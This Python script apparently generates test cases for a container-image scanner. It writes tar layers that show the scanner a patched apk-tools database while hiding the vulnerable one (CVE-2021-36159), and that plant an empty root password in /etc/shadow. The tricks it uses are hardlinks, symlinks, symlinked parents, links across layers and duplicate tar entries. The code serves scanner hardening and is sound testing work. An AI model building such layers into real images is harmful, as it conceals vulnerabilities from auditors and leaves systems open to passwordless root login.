#!/usr/bin/env python3
"""Writes the layers of one issue-11 evasion case on an Alpine root filesystem.

  evasion_layers.py CASE ROOTFS OUTDIR
ROOTFS is the extracted base (its lib/apk/db/installed is the vulnerable DB,
apk-tools 2.10.6-r0). Writes OUTDIR/layer1.tar [layer2.tar] and prints their
paths. "fixed" is the same DB with apk-tools at 2.10.7-r0 (the CVE-2021-36159
fix), the DB an attacker shows the scanner; "vuln" is the real one. The
shadow cases plant an empty root password the same ways.
"""
import io, os, sys, tarfile

case, rootfs, out = sys.argv[1:4]
vuln = open(os.path.join(rootfs, "lib/apk/db/installed"), "rb").read()
fixed = vuln.replace(b"P:apk-tools\nV:2.10.6-r0", b"P:apk-tools\nV:2.10.7-r0")
assert fixed != vuln, "the base DB has no apk-tools 2.10.6-r0"
safe_shadow = open(os.path.join(rootfs, "etc/shadow"), "rb").read()
empty_shadow = b"".join(b"root::18000:0:::::\n" if l.startswith(b"root:") else l + b"\n"
                        for l in safe_shadow.splitlines())
assert empty_shadow != safe_shadow

def tar(name, entries):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for kind, path, arg in entries:
            ti = tarfile.TarInfo(path)
            ti.mtime = 1700000000
            if kind == "dir":
                ti.type, ti.mode = tarfile.DIRTYPE, 0o755
                tf.addfile(ti)
            elif kind == "file":
                ti.size, ti.mode = len(arg), 0o644
                tf.addfile(ti, io.BytesIO(arg))
            elif kind == "sym":
                ti.type, ti.linkname, ti.mode = tarfile.SYMTYPE, arg, 0o777
                tf.addfile(ti)
            elif kind == "hard":
                ti.type, ti.linkname, ti.mode = tarfile.LNKTYPE, arg, 0o644
                tf.addfile(ti)
    p = os.path.join(out, name)
    open(p, "wb").write(b.getvalue())
    print(p)

dirs = [("dir", "tmp", None), ("dir", "lib", None), ("dir", "lib/apk", None), ("dir", "lib/apk/db", None),
        ("dir", "etc", None)]
if case == "hardlink":          # item 1: the claimed names are hardlinks to unclaimed files
    tar("layer1.tar", dirs + [("file", "tmp/x", vuln), ("hard", "lib/apk/db/installed", "tmp/x"),
                              ("file", "tmp/s", empty_shadow), ("hard", "etc/shadow", "tmp/s")])
elif case == "parent":          # item 2: written through a symlinked parent in the same layer
    tar("layer1.tar", dirs + [("file", "lib/apk/db/installed", fixed), ("file", "etc/shadow", safe_shadow),
                              ("sym", "evil", "/"), ("file", "evil/lib/apk/db/installed", vuln),
                              ("file", "evil/etc/shadow", empty_shadow)])
elif case == "parent-lower":    # item 2 across layers: the symlink is in the layer below
    tar("layer1.tar", dirs + [("file", "lib/apk/db/installed", fixed), ("file", "etc/shadow", safe_shadow),
                              ("sym", "evil", "../../"), ("dir", "x", None), ("sym", "x/up", "..")])
    tar("layer2.tar", [("file", "evil/lib/apk/db/installed", vuln), ("file", "x/up/evil/etc/shadow", empty_shadow)])
elif case == "symlink":         # item 3: the claimed names are symlinks to unclaimed files
    tar("layer1.tar", dirs + [("file", "tmp/x", vuln), ("sym", "lib/apk/db/installed", "../../../tmp/x"),
                              ("file", "tmp/s", empty_shadow), ("sym", "etc/shadow", "/../tmp/s")])
elif case == "symlink-lower":   # item 3 across layers: the target's content is in the layer below
    tar("layer1.tar", dirs + [("file", "tmp/x", vuln), ("file", "tmp/s", empty_shadow), ("sym", "t", "tmp")])
    tar("layer2.tar", [("sym", "lib/apk/db/installed", "/t/x"), ("sym", "etc/shadow", "../t/s")])
elif case == "dir-symlink":     # a symlinked directory on the way to the claimed name
    tar("layer1.tar", [("dir", "tmp", None), ("dir", "tmp/d", None), ("file", "tmp/d/installed", vuln),
                       ("dir", "lib", None), ("dir", "lib/apk", None), ("sym", "lib/apk/db", "/tmp/d"),
                       ("file", "tmp/s", empty_shadow), ("dir", "etc", None), ("sym", "etc/shadow", "/tmp/s")])
elif case == "dir-symlink-lower":  # the same, the content in the layer below the link
    tar("layer1.tar", [("dir", "tmp", None), ("dir", "tmp/d", None), ("file", "tmp/d/installed", vuln),
                       ("file", "tmp/s", empty_shadow)])
    tar("layer2.tar", [("dir", "lib", None), ("dir", "lib/apk", None), ("sym", "lib/apk/db", "../../tmp/d"),
                       ("dir", "etc", None), ("sym", "etc/shadow", "../tmp/s")])
elif case == "duplicate":       # item 4: the same path twice, the last wins
    tar("layer1.tar", dirs + [("file", "lib/apk/db/installed", fixed), ("file", "lib/apk/db/installed", vuln),
                              ("file", "etc/shadow", safe_shadow), ("file", "etc/shadow", empty_shadow)])
elif case == "duplicate-hides": # item 4 the other way: the vulnerable DB comes first and is replaced
    tar("layer1.tar", dirs + [("file", "lib/apk/db/installed", vuln), ("file", "lib/apk/db/installed", fixed),
                              ("file", "etc/shadow", empty_shadow), ("file", "etc/shadow", safe_shadow)])
else:
    sys.exit("unknown case " + case)
